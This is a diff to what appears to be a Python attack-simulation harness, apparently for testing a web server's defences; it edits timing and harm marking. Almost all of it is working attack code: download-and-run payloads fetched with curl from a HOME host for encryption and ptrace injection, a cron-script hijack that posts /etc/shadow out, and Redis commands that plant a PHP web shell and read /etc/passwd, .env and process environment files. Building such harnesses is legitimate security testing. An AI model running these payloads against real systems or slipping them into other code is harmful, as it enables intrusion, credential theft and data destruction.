@@ -109,8 +109,7 @@ foreach (array_slice(glob(__DIR__ . '/picture-*.jpg'), 0, 90) as $i => $path) {
 
 
 def encryption_32_threads(enemy):
-    files(enemy)
-    threading.Thread(target=lambda: (time.sleep(1.2), mark("harm")), daemon=True).start()
+    files(enemy, harm=True)
     enemy.inject(f"curl -so /tmp/.e http://{HOME}:8080/encrypt; chmod +x /tmp/.e; /tmp/.e /srv/www/uploads 32")
 
 
@@ -165,10 +164,8 @@ def miner(enemy):
 
 def ptrace_injection(enemy):
     """A program of the attacker's stops a neighbour of the same user and writes into it."""
-    files(enemy)
-    answer = enemy.inject(f"curl -so /tmp/.i http://{HOME}:8080/inject; chmod +x /tmp/.i; /tmp/.i node")
-    if b"written" in answer:
-        mark("harm")
+    files(enemy, harm=True)
+    enemy.inject(f"curl -so /tmp/.i http://{HOME}:8080/inject; chmod +x /tmp/.i; /tmp/.i node")
 
 
 def preload_implant(enemy):
@@ -182,7 +179,7 @@ def cron_script_hijack(enemy):
     """A script that cron runs as root may be written by the web user; a line is added, cron does the rest."""
     drain(8083)
     enemy.inject(f"printf '\\ncurl -s -m 3 --data-binary @/etc/shadow http://{HOME}:8083/ || true\\n' >> /usr/local/bin/shop-stats")
-    enemy.pause(52)
+    time.sleep(66)
 
 
 def escape(enemy):
@@ -273,8 +270,8 @@ for turn in range(4):
 def web_shell_by_redis(enemy):
     """Redis is told to save its memory as a PHP file among the pictures."""
     enemy.javascript("(() => { const s = net.connect(6379, '127.0.0.1'); const c = (...w) => s.write('*' + w.length + '\\r\\n' + w.map((x) => '$' + x.length + '\\r\\n' + x + '\\r\\n').join('')); "
-                     "c('CONFIG','SET','dir','/srv/www/uploads'); c('CONFIG','SET','dbfilename','cache.php'); c('SET','aaa','\\n<?php @readfile($_GET[\"f\"]); ?>\\n'); c('SAVE'); "
-                     "c('CONFIG','SET','dir','/var/lib/redis'); c('CONFIG','SET','dbfilename','dump.rdb'); c('DEL','aaa'); s.end(); return 1; })()")
+                     "c('CONFIG','SET','rdbcompression','no'); c('CONFIG','SET','dir','/srv/www/uploads'); c('CONFIG','SET','dbfilename','cache.php'); c('SET','aaa','\\n<?php @readfile($_GET[\"f\"]); ?>\\n'); c('SAVE'); "
+                     "c('CONFIG','SET','dir','/var/lib/redis'); c('CONFIG','SET','dbfilename','dump.rdb'); c('CONFIG','SET','rdbcompression','yes'); c('DEL','aaa'); s.end(); return 1; })()")
     enemy.pause(1.5)
     for path in ["/etc/passwd", "/srv/api/.env", "/proc/self/environ"]:
         if SECRET in enemy.php("cache.php", f=path):
